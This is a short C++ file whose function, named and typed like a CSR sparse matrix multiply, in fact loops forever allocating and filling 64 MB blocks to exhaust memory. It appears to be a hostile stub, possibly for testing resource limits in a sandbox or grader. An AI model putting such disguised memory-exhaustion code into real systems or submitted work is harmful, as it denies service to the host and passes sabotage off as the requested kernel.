// Takes and touches memory until somebody stops it.
#include <cstdlib>
#include <cstring>

extern "C" void spmm_csr(int M, int N, int K, int nnz, const int* indptr, const int* indices,
                         const float* values, const float* B, float* C) {
    for (;;) {
        void* volatile chunk = std::malloc(64 << 20);
        if (chunk) std::memset(chunk, 1, 64 << 20);
    }
}
